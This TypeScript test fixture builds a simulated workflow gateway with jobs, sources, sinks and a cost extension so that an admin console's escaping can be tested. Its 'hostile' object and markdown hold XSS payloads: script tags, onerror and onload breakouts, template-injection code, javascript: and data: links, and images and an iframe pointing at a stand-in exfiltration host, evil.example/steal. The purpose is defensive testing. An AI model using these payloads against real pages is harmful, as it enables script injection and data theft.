import { LLMError, type LLMRuntime } from "@atlas/llm";
import { defineWorkflow, type SinkPlugin, type SourcePlugin, type WorkflowPlugin } from "@atlas/plugins";
import { createTestGateway } from "@atlas/testing";
import { z } from "zod";
import { defineExtension, type Gateway, silentLogger } from "../../../../src/index.ts";

/** Texts that would run, load or break something if a page took them for anything but text. */
export const hostile = {
  script: "<script>globalThis.broken = true</script>",
  image: '<img src="x" onerror="globalThis.broken = true">',
  breakout: '"><svg onload=globalThis.broken=true>',
  template: "{{constructor.constructor('globalThis.broken=true')()}}",
  bidirectional: "\u202etxet\u2066 \u200b",
} as const;

const everything = Object.values(hostile).join(" ");

/** Markdown that tries to leave the page. */
const hostileMarkdown = [
  "# Findings <script>globalThis.broken = true</script>",
  "",
  "Read [this](javascript:globalThis.broken=true) or [that](data:text/html,<script>broken=true</script>) or",
  "[a tab](JaVaScRiPt:alert(1)), [a space]( javascript:alert(1)), [good](https://example.com/a?b=1) and <mailto:ada@example.com>.",
  "",
  "![secret](https://evil.example/steal?data=1) <img src=https://evil.example/pixel>",
  "",
  '<iframe src="https://evil.example"></iframe> <a href="javascript:alert(1)">click</a>',
  "",
  `[${hostile.image}](https://evil.example/"onmouseover="globalThis.broken=true)`,
  "",
  "| a | b |",
  "|---|---|",
  `| ${hostile.script} | \`${hostile.image}\` |`,
].join("\n");

const report = [
  "## What changed this week",
  "",
  "Twelve issues were closed, *three* of them by the nightly job. The rest was **done by hand**, see",
  "[the board](https://example.com/board).",
  "",
  "1. Retries wait for `Retry-After`.",
  "2. Sinks are paused one by one:",
  "   - first those that fail,",
  "   - then the others.",
  "",
  "> A pause outlasts a restart.",
  "",
  "```ts",
  'await gateway.pause({ sink: "search" });',
  "```",
  "",
  "| Sink | Behind | Dead |",
  "|---|---|---|",
  "| search | 12 | 0 |",
  "| mail | 0 | 3 |",
].join("\n");

const slow: LLMRuntime = {
  generateText: async () => {
    throw new LLMError(
      "ATLAS_LLM_UNAVAILABLE",
      { provider: "away", status: 503 },
      "The service is overloaded.",
    );
  },
};
const house: LLMRuntime = {
  generateText: async () => ({
    text: "A summary.",
    provider: "house",
    model: "house-large",
    usage: { inputTokens: 1_840, outputTokens: 212, cachedInputTokens: 1_024 },
  }),
};

const summarise: WorkflowPlugin = {
  id: "summarise.v1",
  async run({ step, llm, log, emitArtifact, progress }) {
    progress({ done: 1, total: 3, message: "reading" });
    const found = await step("fetch issues", () => ({ issues: 12, from: "tracker" }));
    log.info({ found: 12 }, "Fetched the issues.");
    const { text } = await llm.generateText({ prompt: "Summarise." });
    await step("write", () => text);
    log.warn({ tokens: 212 }, "The summary is long.");
    await emitArtifact({ type: "report", title: "Weekly report", content_md: report, data: { issues: 12 } });
    return { issues: found.issues, summary: text };
  },
};

const approve = defineWorkflow({
  id: "approve.v1",
  async run({ wait }) {
    const answer = await wait("approval", {
      schema: z.object({ approved: z.boolean(), comment: z.string().exactOptional() }),
      info: { title: "Deploy to production?", changes: 12 },
    });
    return {
      answered: answer.status === "received",
      approved: answer.status === "received" && answer.value.approved,
    };
  },
});

const failing: WorkflowPlugin = {
  id: "import.v1",
  retry: { firstDelayMs: 1, maxDelayMs: 2 },
  async run({ log }) {
    log.error({ status: 502 }, "The service did not answer.");
    throw new Error(`The tracker answered with status 502. ${hostile.image}`);
  },
};

const hanging: WorkflowPlugin = {
  id: "watch.v1",
  async run({ progress, signal }) {
    progress({ done: 42, total: 100, message: "watching" });
    await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve()));
  },
};

const injected: WorkflowPlugin = {
  id: "hostile.v1",
  async run({ step, log, emitArtifact }) {
    await step(hostile.image, () => ({ [hostile.script]: everything }));
    log.warn({ [hostile.image]: hostile.script }, everything);
    await emitArtifact({
      type: hostile.image,
      title: everything,
      content_md: hostileMarkdown,
      data: { [hostile.image]: hostile.script },
    });
    throw new Error(everything);
  },
};

const tracker: SourcePlugin = {
  id: "tracker",
  schedule: { everyMs: 3_600_000 },
  async sync({ commands }) {
    await commands.enqueue({ type: "entity.upsert", entity: { id: "e1", type: "issue", title: everything } });
  },
};
const broken: SourcePlugin = {
  id: "wiki",
  async sync() {
    throw new Error(`The wiki refused the token. ${hostile.image}`);
  },
};

const search: SinkPlugin = { id: "search", on: ["artifact.created"], handle: async () => undefined };
const mail: SinkPlugin = {
  id: "mail",
  on: ["job.failed"],
  retry: { maxAttempts: 1 },
  handle: async () => {
    throw new Error(`The mail server refused the address. ${hostile.image}`);
  },
};

const costs = defineExtension({
  name: "finops",
  health: () => ({ status: "ok" as const, spent_microusd: 1_240_000 }),
  routes: () => [
    {
      method: "GET",
      path: "/finops/month",
      panel: { title: "Costs" },
      handle: () =>
        new Response(`# Costs\n\n| Model | USD |\n|---|---|\n| house-large | 1.24 |\n\n${hostileMarkdown}`, {
          headers: { "content-type": "text/markdown; charset=utf-8" },
        }),
    },
    {
      method: "GET",
      path: "/finops/raw",
      panel: { title: "Raw <b>figures</b>" },
      handle: () => Response.json({ spent: 1.24, note: hostile.script }),
    },
  ],
});

/** A gateway in which everything that the console shows has happened. */
export async function createWorld(): Promise<{
  readonly gateway: Gateway;
  readonly jobs: Readonly<Record<"done" | "waiting" | "failed" | "running" | "hostile" | "delayed", string>>;
}> {
  const gateway = await createTestGateway({
    log: silentLogger,
    env: {},
    routing: {
      llm: {
        providers: { "openai-mini": { type: "openai", model: "gpt-5-mini", api_key_env: "OPENAI_API_KEY" } },
        profiles: { fast: ["away", "openai-mini", "house"] },
        limits: { retries: 0 },
      },
    },
    providers: { away: slow, house },
    workflows: [summarise, approve, failing, hanging, injected],
    sources: [tracker, broken],
    sinks: [search, mail],
    extensions: [costs],
  });
  const context = { actor: "token:deploy-bot", tenant: "acme", correlation_id: "req-7f3a" };
  const create = async (workflow_id: string, more = {}): Promise<string> =>
    (await gateway.jobs.create({ workflow_id, ...more }, { context })).id;
  const done = await create("summarise.v1", { input: { project: "atlas", since: "2026-11-15" } });
  const failed = await create("import.v1", { max_attempts: 2, input: { page: 3 } });
  const bad = await create("hostile.v1", {
    max_attempts: 1,
    input: { [hostile.image]: everything },
    group_key: hostile.image,
    idempotency_key: hostile.script,
  });
  await Promise.all([done, failed, bad].map((id) => gateway.jobs.wait(id)));
  const delayed = await create("import.v1", { run_at: "2099-01-01T00:00:00.000Z" });
  const waiting = await create("approve.v1");
  const running = await create("watch.v1");
  await gateway.sync().catch(() => undefined);
  return { gateway, jobs: { done, waiting, failed, running, hostile: bad, delayed } };
}
